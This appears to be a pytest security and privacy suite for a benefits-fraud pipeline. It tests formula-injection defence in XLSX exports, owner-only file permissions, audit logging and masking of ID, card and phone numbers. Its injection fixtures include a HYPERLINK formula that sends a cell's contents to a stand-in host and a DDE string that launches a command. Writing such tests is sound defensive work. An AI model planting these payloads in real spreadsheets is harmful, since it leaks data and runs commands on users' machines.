"""Security and privacy of what fundwatch writes: no formula can be smuggled into any XLSX, the store
and every output are owner-only, every export and every applied return is audited with its file's
sha256, and no message fundwatch logs or raises carries a full ID number."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import re
import stat
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from pipelines import flows, report, returns, runlock, worklists
from pipelines.casework import OUTCOME_LABELS
from pipelines.normalise import check_digit
from pipelines.store import connect

AS_OF = dt.date(2026, 11, 20)
AGENCY = "360702"
PID = "36070219500101001" + check_digit("36070219500101001")
INJECTIONS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0",
              "\t=1+1"]


def _suspect(con, sid, name, agency=AGENCY, person_id=PID, amount="1200.00"):
    con.execute(
        "insert into suspects (suspect_id, rule_id, subject, person_id, agency_code, period_from, period_to, amount,"
        " status, first_detected_on, last_detected_on, name, evidence) values"
        " (?, 'PAID_AFTER_DEATH', ?, ?, ?, '202609', '202610', ?, '待下发', ?, ?, ?, ?)",
        [sid, person_id, person_id, agency, Decimal(amount), AS_OF, AS_OF, name,
         json.dumps({"note": name}, ensure_ascii=False)])


@pytest.fixture
def con(tmp_path):
    c = connect(tmp_path / "fw.duckdb")
    c.execute("insert into agencies (agency_code, agency_name, region_code, parent_code) values (?, ?, ?, ?)",
              [AGENCY, INJECTIONS[0], AGENCY, "360700"])
    for i, text in enumerate(INJECTIONS):
        _suspect(c, f"PAD-{i:010d}", text)
    yield c
    c.close()


def _sheets(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _styles(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/styles.xml").decode("utf-8")


def _assert_no_formula_and_text_is_quote_prefixed(path: Path, texts: list[str]) -> None:
    sheets = _sheets(path)
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, f"{path.name} {name} holds a formula"
    assert 'quotePrefix="1"' in _styles(path)
    wb = openpyxl.load_workbook(path)
    try:
        seen = {}
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value in texts:
                        seen[cell.value] = cell
        for text in texts:
            cell = seen.get(text)
            assert cell is not None, f"{text!r} not written to {path.name}"
            assert cell.data_type == "s" and cell.quotePrefix, f"{text!r} in {path.name} is not protected text"
    finally:
        wb.close()


def test_worklist_cells_that_look_like_formulas_stay_quote_prefixed_text(con, tmp_path):
    [path] = worklists.write_worklists(con, tmp_path / "out", AS_OF)
    _assert_no_formula_and_text_is_quote_prefixed(path, INJECTIONS[:-1] + [INJECTIONS[0]])


def test_summary_workbook_agency_name_that_looks_like_a_formula_stays_text(con, tmp_path):
    paths = report.write_report(con, tmp_path / "out", AS_OF)
    text = openpyxl.load_workbook(paths.summary)["汇总表"]
    names = [c.value for row in text.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names, "the agency name did not reach the 汇总表"
    _assert_no_formula_and_text_is_quote_prefixed(paths.summary, names[:1])


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_store_wal_output_folder_and_files_are_owner_only_while_the_store_is_held(tmp_path):
    db, out = tmp_path / "store" / "fw.duckdb", tmp_path / "out"
    with runlock.hold(db, "test"):
        c = connect(db)
        c.execute("insert into agencies (agency_code, agency_name) values (?, ?)", [AGENCY, "章贡区社保局"])
        _suspect(c, "PAD-0000000001", "张三")
        wal = db.with_name(db.name + ".wal")
        assert wal.exists(), "expected DuckDB to keep the write in its WAL"
        assert _mode(wal) == 0o600
        written = worklists.write_worklists(c, out, AS_OF)
        paths = report.write_report(c, out, AS_OF)
        c.close()
    assert _mode(db) == 0o600
    assert _mode(out) == 0o700
    for path in [*written, paths.dashboard, paths.summary]:
        assert _mode(path) == 0o600, path.name
    # the lock holds a pid, a time and a command: readable, so that an analyst sharing the store is
    # told a night runs (runlock.running) — made so under the command's umask 077, and an older 0600 one changed
    assert _mode(runlock.lock_path(db)) == 0o644
    runlock.lock_path(db).chmod(0o600)
    old_umask = os.umask(0o077)
    try:
        with runlock.hold(db, "test"):
            pass
    finally:
        os.umask(old_umask)
    assert _mode(runlock.lock_path(db)) == 0o644


def test_every_export_and_every_applied_return_is_audited_with_who_when_hash_and_suspects(con, tmp_path):
    [path] = worklists.write_worklists(con, tmp_path / "out", AS_OF, actor="clerk-a")
    paths = report.write_report(con, tmp_path / "out", AS_OF, actor="clerk-a")
    wb = openpyxl.load_workbook(path)
    ws = wb["疑点清单"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("核实结果") + 1, value=OUTCOME_LABELS[7])
    ws.cell(row=2, column=header.index("核实说明") + 1, value="经核实无问题")
    returned = tmp_path / "returned.xlsx"
    wb.save(returned)
    result = returns.apply_returns(con, [returned], AS_OF + dt.timedelta(days=3), actor="clerk-b")
    assert len(result.applied) == 1

    rows = con.execute("select happened_at, actor, action, file, file_hash, suspect_ids from audit_log"
                       " order by happened_at").fetchall()
    by_action = {r[2]: r for r in rows}
    for action, file, actor in (("export_worklist", path, "clerk-a"), ("export_summary", paths.summary, "clerk-a"),
                                ("export_dashboard", paths.dashboard, "clerk-a"), ("apply_return", returned, "clerk-b")):
        happened_at, who, _action, name, digest, _ids = by_action[action]
        assert isinstance(happened_at, dt.datetime) and who == actor
        assert name == str(file) and digest == hashlib.sha256(Path(file).read_bytes()).hexdigest(), action
    issued = json.loads(by_action["export_worklist"][5])
    assert sorted(issued) == sorted(r[0] for r in con.execute("select suspect_id from suspects").fetchall())
    assert json.loads(by_action["apply_return"][5]) == [result.applied[0].suspect_id]


def test_messages_fundwatch_logs_or_raises_mask_full_id_numbers():
    legacy = PID[:6] + PID[8:17]
    text = f"Conversion Error: Could not convert string '{PID}' to INT64; legacy {legacy}; lower {PID[:-1]}x"
    scrubbed = flows.scrub(text)
    assert PID not in scrubbed and legacy not in scrubbed and PID[:-1] + "x" not in scrubbed
    # the value DuckDB quotes by its first character (it may be a name beside the number); the others
    # in the ID's shape
    assert "Could not convert string '" + PID[0] + "*" * 17 + "'" in scrubbed
    assert f"lower {PID[:6]}********{PID[-4:-1]}x" in scrubbed
    # a money amount or a payment id is left alone
    assert flows.scrub("amount 80000.00, payment P202611-7") == "amount 80000.00, payment P202611-7"
    failed = flows.StepFailed("detect", flows._one_line(ValueError(text)))
    assert PID not in str(failed)


def test_no_print_or_log_call_in_pipelines_formats_a_raw_person_id():
    """A static guard: no print/log line interpolates person_id unmasked."""
    root = Path(flows.__file__).parent
    offenders = []
    call = re.compile(r"\b(print|log\.(?:info|warning|error|debug)|logger\.\w+|progress)\(")
    for source in sorted(root.glob("*.py")):
        if source.name.startswith(("generate", "bench")):
            continue  # the synthetic generator prints only counts; its ids are synthetic
        for number, line in enumerate(source.read_text(encoding="utf-8").splitlines(), start=1):
            if call.search(line) and re.search(r"\bperson_id\b|\bpid\b", line) and "mask_id" not in line:
                offenders.append(f"{source.name}:{number}: {line.strip()}")
    assert not offenders, offenders


# ------------------------------------------------------------ personal data typed where it does not belong

OTHER = "36070219600202002" + check_digit("36070219600202002")
FULL_WIDTH = OTHER.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
GROUPED = f"{OTHER[:6]} {OTHER[6:14]} {OTHER[14:]}"
CARD = "6222 0000 0000 0004 4444"


def masked_id(person_id: str) -> str:
    return f"{person_id[:6]}********{person_id[-4:]}"


def _forms_absent(text: str) -> None:
    for form in (OTHER, FULL_WIDTH, GROUPED, OTHER[:6] + "-" + OTHER[6:14] + "-" + OTHER[14:], CARD, "4444 4"):
        assert form not in text, form


def test_numbers_typed_in_groups_are_masked_whatever_separates_the_groups():
    """Any separator ingest takes between an account's groups — a full-width or en dash, an
    ideographic space — hides no ID or card number from the masks of messages."""
    from pipelines.privacy import mask_ids_in_text
    assert mask_ids_in_text("账号 6222－0212－3456－7890") == "账号 6222********7890"
    assert mask_ids_in_text("卡 6222–0000–0000–0004–4444") == "卡 6222************4444"
    assert mask_ids_in_text(f"{OTHER[:6]}\u3000{OTHER[6:14]}\u3000{OTHER[14:]}") == OTHER[:6] + "********" + OTHER[-4:]
    assert mask_ids_in_text(f"{OTHER[:6]} {OTHER[6:10]} {OTHER[10:14]} {OTHER[14:]}") == OTHER[:6] + "********" + OTHER[-4:]
    assert mask_ids_in_text("2026-11-21 至 2026－12－01") == "2026-11-21 至 2026－12－01"  # dates stay


def test_a_mobile_number_in_a_message_or_a_memo_is_shown_as_138_stars_5678_and_an_amount_is_not_one():
    """A bank's memo or a refused cell may hold a 手机号: 11 digits, whole, in full-width digits or
    typed 3-4-4 with a space or a dash. An amount with decimals, a shorter or longer number, a time
    stamp of a message are left as the other masks leave them."""
    from pipelines.privacy import mask_ids_in_text, mask_numbers_in_text
    from pipelines.report_mask import scrub_text
    for typed in ("13812345678", "138 1234 5678", "138-1234-5678", "１３８１２３４５６７８", "138\u30001234\u30005678"):
        assert mask_ids_in_text(f"联系电话{typed}，已核实") == "联系电话138****5678，已核实", typed
        assert scrub_text(f"代领 {typed}") == "代领 138****5678", typed
    assert mask_ids_in_text("张三丰_13812345678.csv: no header row") == "张**_138****5678.csv: no header row"
    assert scrub_text("+86 13912345678 转账") == "+86 139****5678 转账"
    for kept in ("划拨 15000000000.00 元", "12345678901", "1381234567", "138 12345678", "2026-11-21"):
        assert mask_ids_in_text(kept) == kept, kept
    assert mask_ids_in_text("138123456789") == "1381****6789"  # 12 digits: an account, as before
    assert mask_numbers_in_text("export_19951202093.csv") == "export_19951202093.csv"  # a time stamp in a message
    assert scrub_text("19951202093") == "199****2093"  # free text names no file


def test_a_card_number_a_number_excel_cut_short_and_a_file_named_after_a_person_are_masked_in_messages():
    """A 19-digit card number written plainly was masked in the ID number's shape (eleven of its
    digits shown), a 16-digit one left a digit over, the 14 digits Excel kept of an ID number turned
    into 3.6010219390129E+17 were shown whole, and a file named after a person kept the name
    (found by a privacy audit of every artefact). Numbers of fewer than twelve digits and an
    agency's file name stay as written."""
    from pipelines.privacy import mask_ids_in_text
    assert mask_ids_in_text("卡号 6230360000012374663。") == "卡号 6230***********4663。"
    assert mask_ids_in_text("6222021234567890") == "6222********7890"
    assert mask_ids_in_text(f"科学计数法(3.6010219390129E+17) {OTHER}") == \
        f"科学计数法(3.6010*****0129E+17) {OTHER[:6]}********{OTHER[-4:]}"
    assert mask_ids_in_text(f"payments_张三丰_{OTHER}.csv: no header row") == \
        f"payments_张**_{OTHER[:6]}********{OTHER[-4:]}.csv: no header row"
    assert mask_ids_in_text("unk_6217000000000000001_林琴.xlsx failed") == "unk_6217***********0001_林*.xlsx failed"
    assert mask_ids_in_text("payments_章贡区_202611.csv: 3 rows, 2026-11-21, ¥12,345.67") == \
        "payments_章贡区_202611.csv: 3 rows, 2026-11-21, ¥12,345.67"
    # an export's time stamp is no personal number: the file stays as named
    assert mask_ids_in_text("payments_20261202093015.csv and 待遇发放_202612021030.csv failed") == \
        "payments_20261202093015.csv and 待遇发放_202612021030.csv failed"
    assert mask_ids_in_text(f"张三丰（{OTHER}）.csv") == f"张**（{OTHER[:6]}********{OTHER[-4:]}）.csv"


def test_a_value_duckdb_could_not_convert_and_the_staff_in_evidence_are_masked():
    """A rule's SQL casting a name or a memo fails quoting the row's value — a counterparty's name,
    a name glued to an ID number — on the console, in runs.summary and in Prefect's state; and the
    经办人/复核人 of a payment's evidence were shown in full in the notebooks (found by a privacy
    audit of serve, failures and notebooks)."""
    from pipelines.privacy import mask_ids_in_text
    from pipelines.report_mask import mask_evidence
    said = mask_ids_in_text('rule X.yaml: Conversion Error: Could not convert string "张三 6214000000000007620 '
                            '一次性伤残补助金" to DECIMAL(18,2)')
    assert said == 'rule X.yaml: Conversion Error: Could not convert string "张' + "*" * 30 + '" to DECIMAL(18,2)'
    assert mask_ids_in_text(f"Could not convert string '{OTHER}刘某某' to INT32") == \
        "Could not convert string '" + OTHER[0] + "*" * 20 + "' to INT32"
    # DuckDB's other wordings, and a message cut at its first line inside the quoted value
    assert mask_ids_in_text('invalid date field format: "张三丰", expected format is (YYYY-MM-DD)') == \
        'invalid date field format: "张**", expected format is (YYYY-MM-DD)'
    assert mask_ids_in_text("Could not parse string '张三丰' according to format specifier") == \
        "Could not parse string '张**' according to format specifier"
    assert mask_ids_in_text('Conversion Error: Could not convert string "张三丰') == 'Conversion Error: Could not convert string "张**'
    shown = mask_evidence({"payment": {"handled_by": "张经办", "reviewed_by": "李复核", "amount": "60000.00"}})
    assert shown == {"payment": {"handled_by": "张**", "reviewed_by": "李**", "amount": "60000.00"}}


def test_a_record_in_the_header_row_is_not_repeated_in_the_nights_note(tmp_path):
    # A row pasted into the header's empty cells: the note naming the columns not read quoted its
    # name in full and the card number half masked, on the console and in runs.summary
    from pipelines.ingest import ingest_inbox
    d = tmp_path / "inbox" / "2026-11-21"
    d.mkdir(parents=True)
    header = f"payment_id,person_id,name,insurance_type,item,period,paid_on,amount,bank_account,agency_code,{OTHER},何丽霞,6230360000012374663\n"
    (d / "payments_360702_202611.csv").write_text(
        header + f"P1,{PID},甲,110,基本养老金,202611,2026-11-10,100.00,6217000000000001,{AGENCY},,,\n", encoding="utf-8")
    con = connect(tmp_path / "fw.duckdb")
    try:
        [result] = ingest_inbox(con, tmp_path / "inbox").files
    finally:
        con.close()
    assert result.status == "ingested"
    assert result.notes == ["3 column(s) not read, no payments column of that name; their headers hold numbers "
                            "(a record in the header row?) and are not shown: see the file's header row"]


def test_an_id_number_in_the_wrong_column_is_masked_in_reasons_and_left_off_the_dashboard(tmp_path):
    """An ID number (in any form a clerk types it) or a card number in an amount or a date column:
    the row is refused, its reason masked in rejected_rows; the province dashboard counts reasons
    without the quoted cell at all (it may be a name)."""
    from pipelines.ingest import ingest_inbox
    d = tmp_path / "inbox" / "2026-11-21"
    d.mkdir(parents=True)
    header = "payment_id,person_id,name,insurance_type,item,period,paid_on,amount,bank_account,agency_code\n"
    rows = [f"P1,{PID},甲,110,基本养老金,202611,2026-11-10,{OTHER},6217000000000001,{AGENCY}",
            f"P2,{PID},甲,110,基本养老金,202611,{FULL_WIDTH},100.00,6217000000000001,{AGENCY}",
            f"P3,{PID},甲,110,基本养老金,202611,{GROUPED},100.00,6217000000000001,{AGENCY}",
            f"P4,{PID},甲,110,基本养老金,202611,{CARD},100.00,6217000000000001,{AGENCY}",
            f"P5,{PID},甲,110,基本养老金,202611,名泄一,100.00,6217000000000001,{AGENCY}"]
    (d / "payments_360702_202611.csv").write_text(header + "\n".join(rows) + "\n", encoding="utf-8")
    con = connect(tmp_path / "fw.duckdb")
    try:
        ingest_inbox(con, tmp_path / "inbox")
        reasons = [r for (r,) in con.execute("select reason from rejected_rows order by row_number").fetchall()]
        assert len(reasons) == 5
        _forms_absent(" ".join(reasons))
        assert OTHER[:6] + "********" + OTHER[-4:] in reasons[0]
        assert OTHER[:6] + "********" + OTHER[-4:] in reasons[2]
        assert "6222" + "*" * 12 + "4444" in reasons[3]  # a card as an account is masked everywhere
        report.write_report(con, tmp_path / "out", AS_OF)
        page = (tmp_path / "out" / "dashboard.html").read_text(encoding="utf-8")
        _forms_absent(page)
        assert "名泄一" not in page and "不是有效日期" in page
        assert "raw" not in json.dumps(report_rejections(con))
    finally:
        con.close()


def report_rejections(con):
    from pipelines.report_data import quality
    return quality(con)["rejected"]


def test_returns_messages_mask_an_id_number_typed_into_the_sheet(con, tmp_path):
    path = worklists.write_worklists(con, tmp_path / "out", AS_OF)[0]
    wb = openpyxl.load_workbook(path)
    ws = wb["疑点清单"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("核实结果") + 1, value=OTHER)
    ws.cell(row=3, column=header.index("疑点编号") + 1, value=FULL_WIDTH)
    ws.cell(row=4, column=header.index("核实结果") + 1, value=OUTCOME_LABELS[4])
    ws.cell(row=4, column=header.index("追回金额") + 1, value=GROUPED + "元")
    sent = tmp_path / f"台账_{OTHER}.xlsx"
    wb.save(sent)
    result = returns.apply_returns(con, [sent], AS_OF + dt.timedelta(days=3))
    assert len(result.refusals) >= 3
    printed = "\n".join(result.lines())
    _forms_absent(printed)
    _forms_absent(" ".join(r for (r,) in con.execute("select reason from return_refusals").fetchall()))
    assert OTHER[:6] + "********" + OTHER[-4:] in printed


def test_a_worklist_shows_another_agencys_person_masked_in_the_evidence(tmp_path):
    """SHARED_BANK_ACCOUNT: one account paid to persons of three agencies goes to one agency's
    worklist; the other agencies' persons in its evidence are masked, their agencies named."""
    from pipelines import rules, suspects
    from pipelines.config import Config
    con = connect(tmp_path / "fw.duckdb")
    try:
        people = [("36070219500101001", "甲共一", "360702001"), ("36070219600202002", "乙共二", "360702001"),
                  ("36072119600303003", "丙共三", "360721001"), ("36010219600404004", "丁共四", "360102001")]
        for i, (p17, name, agency) in enumerate(people):
            con.execute("insert into payments (payment_id, person_id, name, insurance_type, item, period, paid_on,"
                        " amount, bank_account, agency_code, _file_hash) values (?, ?, ?, '110', '基本养老金', '202611',"
                        " '2026-11-10', 3000, '6222000000000009999', ?, 'h')", [f"P{i}", p17 + check_digit(p17), name, agency])
        rules.detect(con, AS_OF, Config())
        suspects.update_suspects(con, AS_OF, "t")
        (path,) = worklists.write_worklists(con, tmp_path / "out", AS_OF)
        assert "360702001" in path.name
        text = " ".join(str(v) for row in openpyxl.load_workbook(path)["疑点清单"].iter_rows(values_only=True)
                        for v in row if v is not None)
        own = people[0][0] + check_digit(people[0][0])
        assert own in text and "甲共一" in text
        for p17, name, agency in people[2:]:
            assert p17 + check_digit(p17) not in text and name not in text
        # 丁 (360102…) sorts first of the payees the summary shows: masked, with the agency that pays them
        ding = people[3][0] + check_digit(people[3][0])
        assert ding[:6] + "********" + ding[-4:] in text and "丁**" in text and "360102001" in text
    finally:
        con.close()


def test_file_names_holding_an_id_number_are_masked_in_the_run_summary(tmp_path):
    """A file named after a person (名单_<ID>.csv): skipped as a copy or failed, its name is masked
    in runs.summary as every message is."""
    from pipelines import ingest, runsummary
    first, second = tmp_path / "inbox" / "2026-11-20", tmp_path / "inbox" / "2026-11-21"
    first.mkdir(parents=True)
    second.mkdir(parents=True)
    text = ("payment_id,person_id,name,insurance_type,item,period,paid_on,amount,bank_account,agency_code\n"
            f"P1,{PID},甲,110,基本养老金,202611,2026-11-10,100.00,6217000000000001,{AGENCY}\n")
    (first / "payments_360702_202611.csv").write_text(text, encoding="utf-8")
    (second / f"payments_{OTHER}.csv").write_text(text, encoding="utf-8")  # the same bytes again
    (second / f"deaths_{OTHER}.csv").write_bytes(b"")  # unreadable: refused whole
    con = connect(tmp_path / "fw.duckdb")
    try:
        found = ingest.ingest_inbox(con, tmp_path / "inbox")
        summary = runsummary.summarise(con, {"run_id": "r", "as_of": AS_OF, "ingest": found})
    finally:
        con.close()
    assert summary["copies_skipped"] and summary["failed_files"]
    _forms_absent(json.dumps(summary, ensure_ascii=False))
    assert OTHER[:6] + "********" + OTHER[-4:] in json.dumps(summary, ensure_ascii=False)



def test_numbers_in_a_bank_memo_are_masked_in_the_analysts_drill_down_in_every_form_a_clerk_types_them(tmp_path):
    """A fund transaction's 摘要 (memo) is the bank's free text, kept in the suspect's evidence and
    shown by the notebooks' drill-down (analysis.suspect_detail, read above the agency): an ID number
    in full-width digits or in groups, and a card number in groups of four, are masked there as in
    every message (they were left whole: only unbroken ASCII runs were found)."""
    from pipelines import analysis
    con = connect(tmp_path / "fw.duckdb")
    try:
        memo = f"代发退款 身份证{FULL_WIDTH} 又{GROUPED} 卡号{CARD} 对公账户755912345678901"
        evidence = {"summary": "从基金账户向个人转出", "transaction": {"txn_id": "T0001", "amount": "5000.00", "memo": memo}}
        con.execute(
            "insert into suspects (suspect_id, rule_id, subject, person_id, agency_code, period_from, period_to, amount,"
            " status, first_detected_on, last_detected_on, name, evidence) values"
            " ('FPT-0000000001', 'FUND_PRIVATE_TRANSFER', 'T0001', null, ?, '202611', '202611', 5000.00, '待下发', ?, ?,"
            " null, ?)", [AGENCY, AS_OF, AS_OF, json.dumps(evidence, ensure_ascii=False)])
        shown = analysis.suspect_detail(con, "FPT-0000000001")["evidence"]["transaction"]["memo"]
        assert shown.startswith("代发退款 身份证")  # the memo is shown, its numbers masked
        _forms_absent(shown)
        assert shown.count(OTHER[:6] + "********" + OTHER[-4:]) == 2
        assert "6222" + "*" * 12 + "4444" in shown
        # 15 digits in free text are as likely a company's account as a legacy ID: the fewer digits
        assert "对公账户7559*******8901" in shown
    finally:
        con.close()


@pytest.mark.parametrize("sql", [
    "select cast(v as time)", "select cast(v as date)", "select cast(v as timestamp)", "select cast(v as int[])",
    "select cast(v as struct(a int))", "select cast(v as map(int, int))", "select v::blob", "select from_base64(v)",
    "select strptime(v, '%Y')", "select cast(v as decimal(18, 2))", "select json(v)",
    # (a second regression probe: more of DuckDB's wordings quote the value)
    "select to_json(v)::int", "select date_part(v, current_date)", "select timezone(v, now())",
    "select to_json(v)::struct(a int)",
    # (a third: a regular expression built from the value, and a value holding its own quote marks)
    "select regexp_matches('a', v || '(')", "select cast(v || ''', ' || v as int)",
    "select cast(v || ''' x' as date)",
    # (RE2's own wordings, since a looser pattern masked fundwatch's own `missing key(s): params`)
    "select regexp_matches('a', v || ')')"])
def test_a_name_a_rules_sql_could_not_convert_is_masked_in_each_of_duckdbs_wordings(sql):
    """A privacy audit: DuckDB quotes the value it could not convert in more wordings than 'Could not
    convert string' (time field value out of range: "…", Type VARCHAR with value '…', … conversion of
    string "…", Could not decode string "…"): a rule's failure put a payee's name on the console, in
    runs.summary and in Prefect's state. Each, raised by DuckDB itself, says the first character only."""
    import duckdb
    from pipelines.privacy import mask_ids_in_text
    con = duckdb.connect()
    con.execute("create table payees (v varchar)")
    con.execute("insert into payees values (?)", [f"欧阳测甲{OTHER}"])  # a row's value, as a rule reads it
    with pytest.raises(duckdb.Error) as raised:
        con.execute(f"{sql} from payees").fetchall()
    message = str(raised.value)
    assert "欧阳测甲" in message  # what DuckDB says: the row's value
    said = mask_ids_in_text(message)
    assert "阳测甲" not in said and OTHER not in said and "欧*" in said


def test_fundwatchs_own_words_about_a_rule_file_are_not_taken_for_a_value_to_mask(tmp_path):
    """A visual probe's side note: an own rule file without `params:` stopped the night with `missing
    key(s): p*****` — the mask of RE2's `missing ): <pattern>` took fundwatch's own wording for it."""
    from pipelines import rules
    from pipelines.privacy import mask_ids_in_text
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "LOCAL_CHECK.yaml").write_text(
        "id: LOCAL_CHECK\ntitle: 本地核查\ntitle_en: local check\nbasis: 本地\nseverity: low\nsubject: person\n"
        "sql: select person_id as subject from payments\n", encoding="utf-8")
    _, errors = rules.load_rules([folder])
    said = [mask_ids_in_text(str(e)) for e in errors]
    assert any("missing key(s): params" in s for s in said), said
    for message in ("missing key(s): params, sql", "unknown key(s) parms (meant params?)"):
        assert mask_ids_in_text(message) == message


def test_an_id_number_inside_an_agency_code_and_a_delivery_named_after_a_person_are_masked():
    from pipelines.privacy import mask_folder_name
    from pipelines.report_mask import mask_agency_code
    masked = f"{OTHER[:6]}********{OTHER[-4:]}"
    assert mask_agency_code(f"{OTHER}-01") == f"{masked}-01"
    assert mask_agency_code(f"A{OTHER}") == f"A{masked}"
    assert mask_agency_code(GROUPED) == masked and mask_agency_code(FULL_WIDTH) == masked
    # real codes stay readable, also written in groups (a regression probe: the grouped forms of an ID or
    # a card number masked 360102-000001-001 and told two agencies apart by nothing)
    for code in ("360702001", "360702000001", "36070200000123", "3607-02", "360102-000001-001",
                 "3604-0200-1000-0001", "360102-0001-0001-0001", "3607 0200 1000 0001"):
        assert mask_agency_code(code) == code
    assert mask_folder_name(f"2026-12-21_张三丰_{FULL_WIDTH}") == f"2026-12-21_张**_{masked}"
    assert mask_folder_name(f"2026-12-21_{OTHER}") == f"2026-12-21_{masked}"
    assert mask_folder_name(f"2026-12-21_张三丰_{GROUPED}") == f"2026-12-21_张**_{masked}"
    # a number that may be a person's though no valid ID number: mistyped, a mobile, a card (a second probe)
    assert mask_folder_name(f"2026-11-21_李雷_{OTHER[:-1]}Y") == f"2026-11-21_李*_{OTHER[:4]}*********{OTHER[13:17]}Y"
    assert mask_folder_name("2026-11-21_王五_13812345678") == "2026-11-21_王*_138****5678"
    assert mask_folder_name("2026-11-21_王五_6217001234567890123") == "2026-11-21_王*_6217***********0123"
    assert mask_folder_name("2026-11-21_李四光_19901011234") == "2026-11-21_李**_199****1234"  # no stamp here
    assert mask_folder_name("2026-11-21_赵六_+8613812345678") == "2026-11-21_赵*_+8613*****5678"
    # none that may be a person's: as it is (a stamp, a batch number, a stamp or an agency's code in groups)
    for name in ("2026-11-21", "2026-11-21_补充", "20261202093015_张三丰", "202612020930150",
                 "2026-11-21_批次123456789012", "2026 1121 1430 0001", "2026-11-21_360102-000001-001",
                 "2026-11-21_3604-0200-1000-0001"):
        assert mask_folder_name(name) == name
    assert mask_agency_code("12360100491012345K") == "12360100491012345K"  # a 统一社会信用代码 is a code
    assert mask_agency_code(f"{OTHER[:4]} {OTHER[4:8]} {OTHER[8:12]} {OTHER[12:16]} {OTHER[16:]}") != \
        f"{OTHER[:4]} {OTHER[4:8]} {OTHER[8:12]} {OTHER[12:16]} {OTHER[16:]}"
    assert mask_agency_code("360102-261121-001") == "360102-261121-001"  # a code, not a legacy ID in groups


def test_fundwatchs_own_messages_quoting_a_value_are_not_cut_by_the_duckdb_mask():
    """A regression probe: the mask of the value a DuckDB conversion quotes was widened to any
    `value '…'` or `string '…'`, and then every other place the value appeared was masked too — a
    refusal quoting a clerk's cell `value '10'`, a config error, a date later in the message."""
    from pipelines.privacy import mask_ids_in_text
    for text in ("追回金额“value '10'”不是金额", "rule_time_limit_minutes: expected minutes, got \"value '10'\"",
                 "发放日期(paid_on) 不是有效日期: 'value '2026''; 复核时间 '2026-11-21 10:00:00'"):
        assert mask_ids_in_text(text) == text
    assert mask_ids_in_text("Could not convert string '20' to INT32 at 2026-11-20") == \
        "Could not convert string '2*' to INT32 at 2026-11-20"
    # a folder in a path (an inbox entry that is a FIFO), a name written before the number, other suffixes
    from pipelines.privacy import mask_path
    assert mask_path("/data/inbox/2026-11-21_孙八_13912345678/readme") == "/data/inbox/2026-11-21_孙*_139****5678/readme"
    assert mask_ids_in_text(f"张三丰 {OTHER}.csv 无法读取") == f"张** {masked_id(OTHER)}.csv 无法读取"
    assert mask_ids_in_text(f"张三丰_{OTHER}.json") == f"张**_{masked_id(OTHER)}.json"
    # a batch folder beside a file: judged as a folder (its Chinese kept; a long number masked as ever)
    assert mask_ids_in_text("2026-11-21_批次123456789012/payments_x.csv: no header").startswith("2026-11-21_批次")
    # a value holding its own quote mark is masked whole
    assert mask_ids_in_text('invalid date field format: "张"三丰", expected format is (YYYY-MM-DD)') == \
        'invalid date field format: "张***", expected format is (YYYY-MM-DD)'
